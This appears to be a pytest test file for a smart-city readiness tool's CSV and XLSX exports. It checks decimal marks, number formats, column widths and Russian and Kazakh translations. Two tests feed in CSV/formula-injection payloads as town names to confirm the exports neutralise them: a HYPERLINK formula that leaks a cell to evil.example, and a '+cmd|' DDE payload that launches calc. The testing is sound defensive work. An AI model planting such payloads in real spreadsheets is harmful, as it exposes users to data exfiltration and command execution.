"""Spreadsheet exports for Excel users: XLSX number formats, widths, frozen header and translated
values; CSV in a standard and an Excel (RU/KK) flavour. Files are read back with openpyxl and csv."""

from __future__ import annotations

import csv
import io
import re

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from smartcity.data import load_dataset
from smartcity.errors import SmartCityError
from smartcity.files import export
from smartcity.model import City
from smartcity.scenario import Scenario, ScoreLayer

DATASET = load_dataset()
SHU_DIGITAL = ("shu", "scri", "digital_infrastructure")  # 2 in Table 2
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def added_town(town_id: str, names: dict[str, str]) -> Scenario:
    """The paper's scenario with one more town, 3 on every indicator (21 of 35 on SCRI)."""
    scenario = Scenario().with_city(City(town_id, names, "KZ-43", 46.8, 61.7))
    for instrument in DATASET.instruments:
        for indicator_id in instrument.indicator_ids:
            scenario = scenario.with_override((town_id, instrument.id, indicator_id), 3)
    return scenario


def csv_rows(data: bytes, delimiter: str) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # a BOM, so Excel reads UTF-8
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def row_of(rows: list[dict[str, str]], city_id: str, instrument_id: str) -> dict[str, str]:
    return next(r for r in rows if r["city_id"] == city_id and r["instrument_id"] == instrument_id)


def workbook(scenario: Scenario, language: str) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(export.scores_xlsx(DATASET, scenario, language)))


def sheet_rows(sheet) -> list[dict[str, openpyxl.cell.Cell]]:
    header, *rows = sheet.iter_rows()
    return [{head.value: cell for head, cell in zip(header, row, strict=True)} for row in rows]


def xlsx_row(rows, city_id: str, instrument_id: str, indicator_id: str | None = None):
    return next(
        r
        for r in rows
        if r["city_id"].value == city_id
        and r["instrument_id"].value == instrument_id
        and (indicator_id is None or r["indicator_id"].value == indicator_id)
    )


# --- CSV -------------------------------------------------------------------------------------


def test_standard_csv_has_commas_points_and_the_papers_table_2():
    rows = csv_rows(export.scores_csv(DATASET, Scenario(), "en"), ",")
    shu, ayagoz, shalkar = (row_of(rows, city, "scri") for city in ("shu", "ayagoz", "shalkar"))
    assert (shu["City"], shu["Total"], shu["Maximum"], shu["Readiness (%)"], shu["Rank"]) == (
        "Shu",
        "15",
        "35",
        "42.86",
        "1",
    )
    assert (ayagoz["Readiness (%)"], shalkar["Readiness (%)"]) == ("31.43", "34.29")
    assert shu["Band"] == "Low" and shu["Scoring method"] == "Paper (weighted sum)"
    assert row_of(rows, "shu", "governance")["Readiness (%)"] == "60.00"


def test_excel_csv_has_semicolons_decimal_commas_and_russian_text():
    data = export.scores_csv(DATASET, Scenario().with_override(SHU_DIGITAL, 1), "ru", "excel")
    rows = csv_rows(data, ";")
    shu = row_of(rows, "shu", "scri")
    assert shu["Город"] == "Шу" and shu["Уровень"] == "Низкий"
    assert shu["Инструмент"] == "Индекс готовности к созданию умного города"
    assert shu["Метод расчёта"] == "Как в статье (взвешенная сумма)"
    assert (shu["Сумма баллов"], shu["Готовность (%)"], shu["Готовность по статье (%)"]) == (
        "14",
        "40,00",
        "42,86",
    )
    assert shu["Изменение (п. п.)"] == "-2,86"  # a number, not a formula: not neutralised
    assert row_of(rows, "ayagoz", "scri")["Готовность (%)"] == "31,43"
    line = data.decode("utf-8-sig").splitlines()[1]
    assert line == (
        "shu;Шу;scri;Индекс готовности к созданию умного города;Как в статье (взвешенная сумма);"
        "14;35;40,00;1;Низкий;42,86;-2,86;0"
    )


def test_excel_csv_never_quotes_numbers_but_quotes_text_with_a_semicolon():
    scenario = added_town("semi", {"en": "North; South", "ru": "Север; Юг"})
    text = export.scores_csv(DATASET, scenario, "ru", "excel").decode("utf-8-sig")
    assert '"Север; Юг"' in text
    assert not re.search(r'"-?\d+(,\d+)?"', text)
    semi = row_of(csv_rows(text.encode("utf-8-sig"), ";"), "semi", "scri")
    assert (semi["Город"], semi["Сумма баллов"], semi["Готовность (%)"]) == ("Север; Юг", "21", "60,00")
    assert semi["Готовность по статье (%)"] == semi["Изменение места"] == ""  # not in the paper


@pytest.mark.parametrize("flavour", ["standard", "excel"])
def test_csv_text_cells_are_formula_safe_in_both_flavours(flavour):
    scenario = added_town("evil", {"en": HYPERLINK, "kk": "+cmd|' /C calc'!A0", "ru": "@SUM(1+1)"})
    delimiter = export.CSV_FLAVOURS[flavour].delimiter
    for language, name in (("en", HYPERLINK), ("kk", "+cmd|' /C calc'!A0"), ("ru", "@SUM(1+1)")):
        rows = csv_rows(export.scores_csv(DATASET, scenario, language, flavour), delimiter)
        city_column = list(rows[0])[1]
        assert {row[city_column] for row in rows if row["city_id"] == "evil"} == {"'" + name}


def test_an_unknown_csv_flavour_is_refused_with_its_name():
    with pytest.raises(SmartCityError, match="'tsv'"):
        export.scores_csv(DATASET, Scenario(), "en", "tsv")


@settings(max_examples=30, deadline=None)
@given(st.integers(10, 50).map(lambda tenths: tenths / 10))
def test_both_flavours_hold_the_same_cells_apart_from_the_decimal_mark(value):
    scenario = Scenario().with_override(SHU_DIGITAL, value)
    standard = csv_rows(export.scores_csv(DATASET, scenario, "en"), ",")
    excel = csv_rows(export.scores_csv(DATASET, scenario, "en", "excel"), ";")
    assert [{k: v.replace(".", ",") for k, v in row.items()} for row in standard] == excel
    shu = row_of(standard, "shu", "scri")
    assert float(shu["Total"]) == pytest.approx(13 + value)  # Shu's other six SCRI scores add to 13
    assert float(shu["Readiness (%)"]) == pytest.approx((13 + value) / 35 * 100, abs=0.005)


@settings(max_examples=200)
@given(st.floats(-1000, 1000, allow_nan=False))
def test_an_amount_has_the_fewest_decimals_that_show_it_to_two_places(value):
    text = export.AMOUNT.text(value)
    fraction = text.partition(".")[2]
    assert len(fraction) <= 2 and not fraction.endswith("0")
    assert abs(float(text) - value) <= 0.005 + 1e-9


@pytest.mark.parametrize(
    ("kind", "value", "standard", "excel"),
    [
        (export.PERCENT, 42.857142857142854, "42.86", "42,86"),
        (export.PERCENT, 55.0, "55.00", "55,00"),
        (export.CHANGE, -0.001, "0.00", "0,00"),
        (export.AMOUNT, 15.0, "15", "15"),
        (export.AMOUNT, 12.5, "12.5", "12,5"),
        (export.AMOUNT, 12.345, "12.35", "12,35"),  # half up
        (export.COUNT_CHANGE, -1, "-1", "-1"),
    ],
)
def test_numbers_in_csv_text(kind, value, standard, excel):
    assert (kind.text(value), kind.text(value, ",")) == (standard, excel)


# --- XLSX ------------------------------------------------------------------------------------


def test_xlsx_scores_have_number_formats_and_full_precision():
    book = workbook(Scenario().with_override(SHU_DIGITAL, 1), "ru")
    assert book.sheetnames == ["Оценки", "Значения показателей"]
    shu = xlsx_row(sheet_rows(book["Оценки"]), "shu", "scri")
    formats = {name: (cell.value, cell.number_format) for name, cell in shu.items()}
    assert formats["Сумма баллов"] == (14, "0")
    assert formats["Максимум"] == (35, "0")
    assert formats["Готовность (%)"] == (pytest.approx(40.0), "0.00")
    assert formats["Готовность по статье (%)"] == (pytest.approx(300 / 7), "0.00")  # 15 / 35 * 100
    assert formats["Изменение (п. п.)"] == (pytest.approx(-100 / 35), "+0.00;-0.00;0.00")
    assert formats["Место"] == (1, "0")
    assert formats["Изменение места"] == (0, "+0;-0;0")
    assert formats["Уровень"] == ("Низкий", "General")
    assert formats["Метод расчёта"][0] == "Как в статье (взвешенная сумма)"


@pytest.mark.parametrize(("value", "total", "total_format"), [(2.5, 15.5, "0.0"), (3.25, 16.25, "0.00")])
def test_xlsx_totals_and_scores_show_as_few_decimals_as_they_need(value, total, total_format):
    book = workbook(Scenario().with_override(SHU_DIGITAL, value), "en")
    shu = xlsx_row(sheet_rows(book["Scores"]), "shu", "scri")
    assert (shu["Total"].value, shu["Total"].number_format) == (total, total_format)
    digital = xlsx_row(sheet_rows(book["Indicator values"]), "shu", "scri", "digital_infrastructure")
    assert (digital["Score"].value, digital["Score"].number_format) == (value, total_format)
    physical = xlsx_row(sheet_rows(book["Indicator values"]), "shu", "scri", "physical_infrastructure")
    assert (physical["Score"].value, physical["Score"].number_format) == (2, "0")


def test_xlsx_values_are_translated_origins_bands_methods_and_names():
    layer = ScoreLayer(
        "round2", "round2.csv (2025-06-01)", ((("ayagoz", "scri", "digital_infrastructure"), 4.0),)
    )
    scenario = Scenario(method="goalpost").with_layer(layer).with_override(SHU_DIGITAL, 3)
    book = workbook(scenario, "kk")
    indicators = sheet_rows(book["Көрсеткіштер мәндері"])
    origins = {
        row["city_id"].value: row["Дереккөз"].value
        for row in indicators
        if row["indicator_id"].value == "digital_infrastructure"
    }
    assert origins == {
        "shu": "Пайдаланушы өзгерткен",
        "ayagoz": "Сауалнама: round2.csv (2025-06-01)",
        "shalkar": "Мақала",
    }
    digital = xlsx_row(indicators, "shalkar", "scri", "digital_infrastructure")
    assert (digital["Қала"].value, digital["Көрсеткіш"].value) == ("Шалқар", "Цифрлық инфрақұрылым")
    assert digital["Құрал"].value == "Ақылды қалаға дайындық индексі"
    scores = sheet_rows(book["Бағалар"])
    assert {row["Есептеу әдісі"].value for row in scores} == {"Мин–макс нормалау"}
    composite = xlsx_row(scores, "shu", "composite")
    assert composite["Құрал"].value == "Жиынтық индекс (мақалада жоқ)"
    assert {row["Деңгей"].value for row in scores} <= {"Өте төмен", "Төмен", "Орташа", "Жақсы", "Жоғары"}


def test_xlsx_has_a_frozen_bold_header_and_fitted_capped_widths():
    scenario = added_town("long", {"en": "L" * 80})
    book = workbook(scenario, "en")
    sheet = book["Scores"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:M17"  # 13 columns; 4 towns x (3 instruments + composite)
    assert all(cell.font.bold for cell in sheet[1])
    widths = {cell.value: sheet.column_dimensions[cell.column_letter].width for cell in sheet[1]}
    assert widths["City"] == 50  # the 80-letter name, capped
    assert widths["Rank"] == len("Rank") + 2
    assert widths["Total"] == len("Total") + 2  # "15", "21" are shorter than the header
    assert widths["instrument_id"] == len("instrument_id") + 2
    assert widths["Instrument"] == len("Composite (not in the paper)") + 2
    paper = workbook(Scenario(), "en")["Scores"]
    city_width = paper.column_dimensions["B"].width
    assert paper["B1"].value == "City" and city_width == len("Shalkar") + 2


def test_xlsx_text_is_formula_safe_even_behind_a_control_character():
    scenario = added_town("evil", {"en": "\x01=1+1", "ru": HYPERLINK})
    for language, expected in (("en", "'=1+1"), ("ru", "'" + HYPERLINK)):
        book = workbook(scenario, language)
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
        assert all(cell.data_type != "f" for cell in cells)
        names = {cell.value for cell in cells if cell.column == 2 and cell.row > 1}
        assert expected in names
